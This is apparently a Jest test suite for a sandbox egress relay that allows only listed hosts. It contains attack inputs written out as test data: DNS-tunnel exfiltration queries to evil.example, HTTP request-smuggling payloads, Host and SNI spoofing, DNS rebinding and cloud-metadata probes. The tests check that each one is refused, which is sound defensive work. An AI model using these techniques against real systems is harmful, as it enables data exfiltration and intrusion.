import { execFile } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { dialFromHost, type Dial } from '../../../src/gateway/egress/dialing.js';
import { startHttp, startHttps, startTcp, type TestServer } from './servers.js';
import {
  startRelayedNamespace,
  type NamespaceOptions,
  type RelayedNamespace,
  type Serving,
} from './relayed-namespace.js';

const PUBLIC = '203.0.113.9';
/** How curl ends when it is reset: while it connects, or later. */
const CURL_NOT_RESOLVED = 6;
const CURL_CUT: (number | null)[] = [7, 56];

describe.each<Serving>(['adopted', 'through an egress'])('relay, %s', (serving) => {
  let http: TestServer;
  let https: TestServer;
  let ssh: TestServer;
  let gitFolder: string;
  let namespace: RelayedNamespace | undefined;
  /** What the relay asked the resolver for, and what it dialled. */
  let resolved: string[];
  let dialled: string[];
  /** What the resolver answers; other names are at PUBLIC. */
  let addresses: Record<string, string[]>;

  beforeAll(async () => {
    gitFolder = mkdtempSync(join(tmpdir(), 'relay-git-'));
    const git = async (...args: string[]): Promise<void> =>
      void (await promisify(execFile)('git', args, { cwd: gitFolder }));
    await git('init', '-q', '.');
    const identity = ['-c', 'user.name=t', '-c', 'user.email=t@t.example'];
    await git(...identity, 'commit', '-q', '--allow-empty', '-m', 'first');
    await git('update-server-info');

    http = await startHttp((request, response) => {
      if (request.url?.startsWith('/repo/') !== true) {
        request.resume().on('end', () => response.end(`http ${String(request.headers.host)}\n`));
        return;
      }
      const path = (request.url.split('?')[0] ?? '').replace('/repo/', '');
      readFile(join(gitFolder, '.git', path)).then(
        (bytes) => response.end(bytes),
        () => response.writeHead(404).end(),
      );
    });
    https = await startHttps((request, response) => {
      response.end(`https ${String(request.headers.host)}\n`);
    });
    // Speaks first, like ssh; echoes; and has its last word only after the client's.
    ssh = await startTcp((socket) => {
      socket.write('hello\n');
      socket.pipe(socket, { end: false });
      socket.on('end', () => socket.end('goodbye\n'));
    });
  });

  afterAll(async () => {
    await Promise.all([http.close(), https.close(), ssh.close()]);
    rmSync(gitFolder, { recursive: true });
  });

  afterEach(async () => {
    await namespace?.close();
    namespace = undefined;
  });

  /** Public addresses end at the local server for the port; everything else is dialled as it is. */
  const dial: Dial = (target) => {
    dialled.push(`${target.address}:${String(target.port)}`);
    const server = { 80: http, 443: https, 22: ssh }[target.port];
    return target.address === PUBLIC && server
      ? dialFromHost({ ...target, address: '127.0.0.1', port: server.port })
      : dialFromHost(target);
  };

  async function start(options: Partial<NamespaceOptions>): Promise<RelayedNamespace> {
    resolved = [];
    dialled = [];
    addresses = {};
    namespace = await startRelayedNamespace(serving, {
      policy: { mode: 'limited', allowedHosts: ['ok.example', '*.wild.example'] },
      gateways: [],
      resolve: (host) => {
        resolved.push(host);
        return Promise.resolve(addresses[host] ?? [PUBLIC]);
      },
      dial,
      ...options,
    });
    return namespace;
  }

  describe('limited', () => {
    it('serves curl, Node, git and bash at allowed names', async () => {
      const { run } = await start({});
      const node = `fetch('http://a.wild.example/').then((r) => r.text()).then((t) => process.stdout.write(t))`;
      const results = await Promise.all([
        run('curl -sS http://ok.example/'),
        run('curl -sSk https://ok.example/'),
        run(`"$NODE" -e "${node}"`),
        run('git ls-remote http://ok.example/repo/ HEAD'),
        run(
          'exec 5<>/dev/tcp/ok.example/80; printf "GET / HTTP/1.0\\r\\nHost: ok.example\\r\\n\\r\\n" >&5; tail -n 1 <&5',
        ),
        run('exec 5<>/dev/tcp/ok.example/22; head -n 1 <&5'),
        run('openssl s_client -connect ok.example:443 -servername ok.example </dev/null'),
      ]);
      expect(results.map((result) => [result.exitCode, result.stdout])).toEqual([
        [0, 'http ok.example\n'],
        [0, 'https ok.example\n'],
        [0, 'http a.wild.example\n'],
        [0, expect.stringMatching(/^[0-9a-f]{40}\tHEAD\n$/)],
        [0, 'http ok.example\n'],
        [0, 'hello\n'],
        [0, expect.stringContaining('BEGIN CERTIFICATE')],
      ]);
      expect(new Set(resolved)).toEqual(new Set(['ok.example', 'a.wild.example']));
      expect(new Set(dialled)).toEqual(new Set([`${PUBLIC}:80`, `${PUBLIC}:443`, `${PUBLIC}:22`]));
      expect(namespace?.refusals).toEqual([]);
    });

    it('refuses other names in DNS and asks no resolver about them', async () => {
      const { run, refusals } = await start({});
      const tunnel = `
        const { Resolver } = require('node:dns').promises;
        const resolver = new Resolver({ tries: 1 });
        resolver.setServers(['127.0.0.53']);
        const ask = (method, name) => resolver[method](name).then((a) => JSON.stringify(a), (e) => e.code);
        (async () => {
          console.log(await ask('resolveTxt', 'c2VjcmV0.evil.example'));
          console.log(await ask('resolve4', 'c2VjcmV0.evil.example'));
          console.log(await ask('resolveTxt', 'c2VjcmV0.ok.example'));
          console.log(await ask('resolveTxt', 'c2VjcmV0.wild.example'));
          console.log(await ask('resolveTxt', 'ok.example'));
          console.log(await ask('resolve6', 'ok.example'));
          console.log(await ask('resolve4', 'ok.example'));
        })();`;
      const { stdout } = await run(`"$NODE" -e "${tunnel}"`);
      expect(stdout.trim().split('\n')).toEqual([
        'EREFUSED',
        'EREFUSED',
        'EREFUSED',
        'ENODATA',
        'ENODATA',
        'ENODATA',
        '["127.64.0.2"]',
      ]);
      expect((await run('curl -sS --max-time 10 http://wild.example/')).exitCode).toBe(6);
      expect(resolved).toEqual([]);
      expect(dialled).toEqual([]);
      expect(refusals).toContainEqual({
        kind: 'refused',
        name: 'c2vjcmv0.evil.example',
        why: 'not allowed',
      });
    });

    it('answers DNS over TCP', async () => {
      const { run } = await start({});
      const client = `
        const query = Buffer.from('001c04d20100000100000000000002' + '6f6b' + '07' + '6578616d706c65' + '0000010001', 'hex');
        const socket = require('node:net').connect(53, '127.0.0.53', () => {
          for (const byte of Buffer.concat([query, query])) socket.write(Buffer.from([byte]));
          socket.end();
        });
        const chunks = [];
        socket.on('data', (c) => chunks.push(c)).on('end', () => console.log(Buffer.concat(chunks).toString('hex')));`;
      const { stdout } = await run(`"$NODE" -e "${client}"`);
      expect(stdout.match(/7f400001/g)).toHaveLength(2);
      expect(stdout.match(/04d28180/g)).toHaveLength(2);
    });

    it('closes TLS that names another server, none, or is no TLS', async () => {
      const { run, refusals } = await start({});
      const tls = (args: string) =>
        `openssl s_client -connect ok.example:443 ${args} </dev/null 2>&1`;
      const results = await Promise.all([
        run(tls('-servername evil.example')),
        run(tls('-noservername')),
        run('curl -sSk --connect-to evil.example:443:ok.example:443 https://evil.example/'),
        run('exec 5<>/dev/tcp/ok.example/443; echo plain text >&5; cat <&5'),
        run('curl -sS -H "Host: evil.example" http://ok.example/'),
        run('curl -sS --request-target http://evil.example/ http://ok.example/'),
        run('exec 5<>/dev/tcp/ok.example/80; printf "SSH-2.0-tunnel\\r\\n" >&5; cat <&5'),
      ]);
      for (const result of results) {
        expect(result.stdout).not.toContain('BEGIN CERTIFICATE');
        expect(result.stdout).not.toContain('evil.example\n');
        expect(result.exitCode).not.toBe(0);
      }
      expect(dialled).toEqual([]);
      expect(refusals).toHaveLength(results.length);
    });
  });

  describe('limited, on port 80', () => {
    /**
     * Sends bytes as they are, and prints what comes back. dd makes it one write: bash writes line by line, and lines
     * that reach a connection which the relay has closed would reset it, and with it the answer that was not read yet.
     */
    const send = (text: string): string =>
      `exec 5<>/dev/tcp/ok.example/80; printf '${text}' | dd bs=64k iflag=fullblock status=none >&5; timeout 5 cat <&5`;
    const get = (host: string, more = ''): string =>
      `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n${more}\\r\\n`;

    it('checks every request of a connection, not only the first', async () => {
      const { run, refusals } = await start({});
      const both = await run(
        send(get('ok.example') + get('ok.example', 'Connection: close\\r\\n')),
      );
      expect(both.stdout.match(/^http ok.example$/gm)).toHaveLength(2);
      expect(refusals).toEqual([]);

      const later = `
        const socket = require('node:net').connect(80, 'ok.example');
        const request = (host) => socket.write('GET / HTTP/1.1\\r\\nHost: ' + host + '\\r\\n\\r\\n');
        let text = '';
        socket.once('data', () => setTimeout(request, 50, 'evil.example'));
        socket.on('data', (c) => (text += c)).on('error', () => undefined).on('close', () => console.log(text));
        request('ok.example');`;
      const { stdout } = await run(`"$NODE" -e "${later}"`);
      expect(stdout).toContain('http ok.example');
      expect(stdout).not.toContain('http evil.example');
      const pipelined = await run(send(get('ok.example') + get('evil.example')));
      expect(pipelined.stdout).not.toContain('http evil.example');
      expect(refusals).toHaveLength(2);
      for (const { why } of refusals) expect(why).toContain('another host: evil.example');
    });

    it('passes on no second request that is hidden in the first', async () => {
      const { run, refusals } = await start({});
      const hidden = get('evil.example');
      const attempts = [
        // Two lengths: one of the two servers would see a request behind the body.
        `POST / HTTP/1.1\\r\\nHost: ok.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${hidden}`,
        `POST / HTTP/1.1\\r\\nHost: ok.example\\r\\nContent-Length: 0\\r\\nContent-Length: 9\\r\\n\\r\\n${hidden}`,
        `POST / HTTP/1.1\\r\\nHost: ok.example\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n${hidden}`,
        `GET / HTTP/1.1\\r\\nHost: ok.example\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n${hidden}`,
        // A header that is continued, or not one.
        `GET / HTTP/1.1\\r\\nX: y\\r\\n Host: evil.example\\r\\n\\r\\n`,
        `GET / HTTP/1.1\\r\\nHost : evil.example\\r\\n\\r\\n`,
        `GET / HTTP/1.1\\r\\nHost: ok.example\\r\\nHost: evil.example\\r\\n\\r\\n`,
        `GET http://evil.example/ HTTP/1.1\\r\\nHost: ok.example\\r\\n\\r\\n`,
        `CONNECT evil.example:80 HTTP/1.1\\r\\nHost: ok.example\\r\\n\\r\\n`,
      ];
      const results = await Promise.all(attempts.map((text) => run(send(text))));
      for (const { stdout } of results) expect(stdout).not.toContain('http ');
      expect(refusals).toHaveLength(attempts.length);
      expect(dialled).toEqual([]);
    });

    it('keeps to requests when a client asks for another protocol', async () => {
      const { run } = await start({});
      const upgrade = 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n';
      const { stdout } = await run(send(get('ok.example', upgrade) + get('evil.example')));
      expect(stdout).toContain('http ok.example');
      expect(stdout).toMatch(/^connection: close\r$/im);
      expect(stdout).not.toContain('http evil.example');
    });

    it('passes bodies of either kind, streams and errors on', async () => {
      const server = await startHttp((request, response) => {
        response.writeHead(request.url === '/no' ? 418 : 200, { 'X-Own': 'kept' });
        request.on('data', (data) => response.write(data)).on('end', () => response.end('.'));
      });
      const { run } = await start({
        dial: (target) => dialFromHost({ ...target, address: '127.0.0.1', port: server.port }),
      });
      const results = await Promise.all([
        run('curl -sS -d "with a length" http://ok.example/'),
        run(
          'printf chunked | curl -sS -H "Transfer-Encoding: chunked" --data-binary @- http://ok.example/',
        ),
        run('curl -sS -X POST http://ok.example/'),
        run('curl -sS -o /dev/null -D - http://ok.example/no'),
        run('head -c 3000000 /dev/zero | curl -sS --data-binary @- http://ok.example/ | wc -c'),
      ]);
      expect(results.slice(0, 3).map(({ stdout }) => stdout)).toEqual([
        'with a length.',
        'chunked.',
        '.',
      ]);
      expect(results[3]?.stdout).toMatch(/^HTTP\/1.1 418 [^]*X-Own: kept/);
      expect(results[4]?.stdout).toBe('3000001\n');
      await server.close();
    });
  });

  it('says of a name that does not exist that it does not, when unrestricted', async () => {
    const { run } = await start({
      policy: { mode: 'unrestricted', allowedHosts: [] },
      resolve: (host) => {
        resolved.push(host);
        const code = { 'missing.example': 'ENOTFOUND', 'dead.example': 'ETIMEOUT' }[host];
        return code === undefined
          ? Promise.resolve([PUBLIC])
          : Promise.reject(Object.assign(new Error(code), { code }));
      },
    });
    const ask = (name: string): Promise<{ stdout: string }> =>
      run(`"$NODE" -e "
        const { Resolver } = require('node:dns').promises;
        const resolver = new Resolver({ tries: 1 });
        resolver.setServers(['127.0.0.53']);
        resolver.resolve4('${name}').then((a) => console.log(a.length), (e) => console.log(e.code));"`);
    expect((await ask('missing.example')).stdout).toBe('ENOTFOUND\n');
    expect((await ask('dead.example')).stdout).toBe('ESERVFAIL\n');
    expect((await ask('there.example')).stdout).toBe('1\n');
    expect((await run('curl -sS http://missing.example/')).exitCode).toBe(CURL_NOT_RESOLVED);
    expect(resolved).toEqual(['missing.example', 'dead.example', 'there.example']);
  });

  it('limits connections that are being made and names that are looked up', async () => {
    const never = new Promise<never>(() => undefined);
    const { run, refusals } = await start({
      policy: { mode: 'unrestricted', allowedHosts: [] },
      resolve: (host) => (host.startsWith('slow') ? never : Promise.resolve([PUBLIC])),
      dial: ({ signal }) =>
        new Promise((_, reject) => {
          signal.addEventListener('abort', () => reject(signal.reason as Error));
        }),
      limits: { dials: 2, lookups: 2 },
    });
    const connecting = `for i in 1 2 3; do timeout 2 bash -c 'exec 5<>/dev/tcp/ok.example/22; cat <&5' & done; wait`;
    await run(connecting);
    expect(refusals).toMatchObject([
      { name: 'ok.example', port: 22, why: 'too many connections are being made' },
    ]);
    refusals.length = 0;
    const asking = `
      const { Resolver } = require('node:dns').promises;
      const resolver = new Resolver({ tries: 1, timeout: 2000 });
      resolver.setServers(['127.0.0.53']);
      const names = ['slow1.example', 'slow2.example', 'slow3.example'];
      Promise.allSettled(names.map((name) => resolver.resolve4(name)))
        .then((all) => console.log(all.map((one) => one.reason.code).sort().join()));`;
    const { stdout } = await run(`"$NODE" -e "${asking}"`);
    expect(stdout).toBe('ESERVFAIL,ETIMEOUT,ETIMEOUT\n');
    await until(() => refusals.length > 0);
    expect(refusals[0]).toMatchObject({ why: 'too many names are looked up' });
  });

  it('reaches no address directly', async () => {
    const lan = await startTcp((socket) => socket.end('host'));
    const { run } = await start({
      policy: { mode: 'unrestricted', allowedHosts: [] },
      resolve: undefined,
      dial: undefined,
    });
    const tcp = (host: string, port: number) =>
      `timeout 5 bash -c 'exec 5<>/dev/tcp/${host}/${String(port)} && cat <&5'`;
    const results = await Promise.all([
      run(tcp('127.0.0.1', lan.port)),
      run(tcp('127.0.0.1', 80)),
      run(tcp('127.64.0.1', 443)),
      run(tcp('127.99.0.1', 22)),
      run(tcp('192.0.2.2', 22)),
      run(tcp('203.0.113.9', 80)),
      run(tcp('169.254.169.254', 80)),
      run(tcp('10.0.0.1', 80)),
      run(tcp('2606:4700::1111', 443)),
      run(tcp('::1', 80)),
      run(tcp('localhost', 443)),
      run('echo query > /dev/udp/8.8.8.8/53'),
      run('echo query > /dev/udp/192.0.2.2/53'),
    ]);
    for (const result of results) {
      expect(result.exitCode).not.toBe(0);
      expect(result.stdout).toBe('');
      expect(result.stderr).toMatch(/unreachable|refused|reset/);
    }
    expect(lan.open.size).toBe(0);
    await lan.close();
  });

  it('reaches no private address by name, and dials only what it vetted', async () => {
    const { run, refusals } = await start({ policy: { mode: 'unrestricted', allowedHosts: [] } });
    Object.assign(addresses, {
      'loopback.example': ['127.0.0.1', '::1', '::ffff:127.0.0.1'],
      'private.example': ['10.0.0.1', 'fd00::1'],
      'metadata.example': ['169.254.169.254'],
      'mixed.example': ['127.0.0.1', PUBLIC],
      'none.example': [],
    });
    expect((await run('curl -sS http://none.example/')).exitCode).toBe(CURL_NOT_RESOLVED);
    for (const name of ['loopback', 'private', 'metadata']) {
      const result = await run(`curl -sS http://${name}.example/`);
      expect({ name, cut: CURL_CUT.includes(result.exitCode) }).toEqual({ name, cut: true });
    }
    expect(dialled).toEqual([]);
    expect(refusals).toMatchObject([
      { name: 'loopback.example', port: 80, why: 'resolves to a forbidden address: loopback' },
      { name: 'private.example', why: 'resolves to a forbidden address: private' },
      { name: 'metadata.example', why: 'resolves to a forbidden address: link-local' },
    ]);

    expect((await run('curl -sS http://mixed.example/')).stdout).toBe('http mixed.example\n');
    // Rebinding: the next answer is private, and the connection before it was to what was vetted then.
    addresses['mixed.example'] = ['127.0.0.1'];
    expect(CURL_CUT).toContain((await run('curl -sS http://mixed.example/')).exitCode);
    expect(dialled).toEqual([`${PUBLIC}:80`]);
  });

  it('reaches the machine’s own addresses under no name', async () => {
    const { hostAddresses } = await import('../../../src/gateway/egress/address-policy.js');
    const { run } = await start({ policy: { mode: 'unrestricted', allowedHosts: [] } });
    addresses['self.example'] = hostAddresses();
    expect(CURL_CUT).toContain((await run('curl -sS http://self.example/')).exitCode);
    expect(dialled).toEqual([]);
  });

  it('allows any name and no claim when unrestricted', async () => {
    const { run } = await start({ policy: { mode: 'unrestricted', allowedHosts: [] } });
    expect((await run('curl -sS -H "Host: b.example" http://a.example/')).stdout).toBe(
      'http b.example\n',
    );
    expect(
      (await run('curl -sSk --connect-to b.example:443:a.example:443 https://b.example/')).stdout,
    ).toBe('https b.example\n');
  });

  it('reaches gateways at private addresses, and nothing else of their hosts', async () => {
    const other = await startHttp((_, response) => response.end('other'));
    const { run } = await start({
      policy: { mode: 'limited', allowedHosts: [] },
      gateways: [
        { host: '127.0.0.1', port: http.port },
        { host: 'gateway.example', port: http.port },
        { host: 'localhost', port: https.port },
        { host: '192.0.2.77', port: 8080 },
      ],
      dial: (target) =>
        target.address === '192.0.2.77'
          ? dial({ ...target, address: PUBLIC, port: 80 })
          : dial(target),
      resolve: (host) => Promise.resolve(host === '192.0.2.77' ? [host] : ['127.0.0.1']),
    });
    const port = String(http.port);
    const reached = await Promise.all([
      run(`curl -sS http://127.0.0.1:${port}/`),
      run(`curl -sS http://gateway.example:${port}/`),
      run(`curl -sSk https://localhost:${String(https.port)}/`),
      run('curl -sS http://gateway-4.internal:8080/'),
    ]);
    expect(reached.map((result) => result.stdout)).toEqual([
      `http 127.0.0.1:${port}\n`,
      `http gateway.example:${port}\n`,
      `https localhost:${String(https.port)}\n`,
      'http gateway-4.internal:8080\n',
    ]);
    const refused = await Promise.all([
      run(`curl -sS http://127.0.0.1:${String(other.port)}/`),
      run(`curl -sS http://gateway.example:${String(other.port)}/`),
      run('curl -sS http://gateway.example/'),
      run('curl -sSk https://gateway-4.internal/'),
      run(`curl -sS http://192.0.2.77:8080/`),
      run(`curl -sS http://127.0.0.2:${port}/`),
    ]);
    for (const result of refused) expect(result).toMatchObject({ stdout: '' });
    expect(other.open.size).toBe(0);
    await other.close();
  });

  it('keeps half-closed connections, and passes resets on', async () => {
    const { run } = await start({});
    const halfClose = `
      const socket = require('node:net').connect({ host: 'ok.example', port: 22, allowHalfOpen: true });
      socket.end('last words\\\\n');
      socket.pipe(process.stdout);`;
    expect((await run(`"$NODE" -e "${halfClose}"`)).stdout).toBe('hello\nlast words\ngoodbye\n');

    const cut = `
      const socket = require('node:net').connect(22, 'ok.example');
      socket.once('data', () => { console.log('connected'); socket.write('seen'); socket.resume(); });
      socket.on('end', () => console.log('ended')).on('error', (e) => console.log(e.code));`;
    await until(() => ssh.open.size === 0);
    const running = run(`"$NODE" -e "${cut}"`);
    // Only then has the client read what a reset would discard.
    await until(() => [...ssh.open].some((socket) => socket.bytesRead > 0));
    for (const socket of ssh.open) socket.resetAndDestroy();
    // A unix socket, which is on the way to the egress, knows no reset.
    const end = serving === 'adopted' ? 'ECONNRESET' : 'ended';
    expect((await running).stdout).toBe(`connected\n${end}\n`);
    await until(() => ssh.open.size === 0);
  });

  it('does not read ahead of a client that does not read, and loses nothing', async () => {
    const total = 128 * 1024 * 1024;
    let sent = 0;
    const flood = await startTcp((socket) => {
      const block = Buffer.alloc(64 * 1024, 'x');
      const fill = (): void => {
        let more = true;
        while (more && sent < total) {
          more = socket.write(block);
          sent += block.length;
        }
        if (sent >= total) socket.end();
      };
      socket.on('drain', fill);
      fill();
    });
    const { run } = await start({
      dial: (target) => dialFromHost({ ...target, address: '127.0.0.1', port: flood.port }),
    });
    // The client reads when the file `go` says so.
    const go = join(gitFolder, 'go');
    const client = `
      const socket = require('node:net').connect(22, 'ok.example');
      socket.pause();
      let read = 0;
      socket.on('data', (c) => (read += c.length)).on('end', () => console.log(read));
      const timer = setInterval(() => {
        if (!require('node:fs').existsSync('${go}')) return;
        clearInterval(timer);
        socket.resume();
      }, 20);`;
    const running = run(`"$NODE" -e "${client}"`);
    let before = -1;
    await until(() => {
      const still = sent > 0 && sent === before;
      before = sent;
      return still;
    }, 300);
    expect(sent).toBeLessThan(total / 2);
    await promisify(execFile)('touch', [go]);
    expect((await running).stdout).toBe(`${String(total)}\n`);
    await flood.close();
  });

  it('bounds connections, and lets new ones in when old ones end', async () => {
    const { run } = await start({});
    const client = `
      const { connect } = require('node:net');
      const live = new Set();
      let reset = 0;
      const open = () => new Promise((resolve) => {
        const socket = connect(22, 'ok.example');
        socket.once('data', () => { live.add(socket); resolve(); });
        socket.on('error', () => { reset += 1; resolve(); });
      });
      (async () => {
        for (let i = 0; i < 600; i += 50) await Promise.all(Array.from({ length: 50 }, open));
        console.log(live.size, reset);
        await Promise.all([...live].map((s) => new Promise((r) => { s.on('close', r); s.end(); })));
        live.clear();
        await open();
        console.log(live.size);
        process.exit();
      })();`;
    expect((await run(`"$NODE" -e "${client}"`)).stdout).toBe('256 344\n1\n');
    await until(() => ssh.open.size === 0);
  });

  it('resets what is open when it is closed', async () => {
    const { run, closeRelay } = await start({});
    const running = run('exec 5<>/dev/tcp/ok.example/22; cat <&5');
    await until(() => ssh.open.size === 1);
    await closeRelay();
    const { stderr } = await running;
    // A process that is killed closes in order what it has read to the end.
    if (serving === 'adopted') expect(stderr).toContain('reset by peer');
    await until(() => ssh.open.size === 0);
    expect((await run('curl -sS --max-time 5 http://ok.example/')).exitCode).not.toBe(0);
  });
});

/** Waits for a condition that events elsewhere bring about. */
async function until(condition: () => boolean, everyMs = 10): Promise<void> {
  const deadline = Date.now() + 100_000;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error('did not come about');
    await new Promise((resolve) => setTimeout(resolve, everyMs));
  }
}
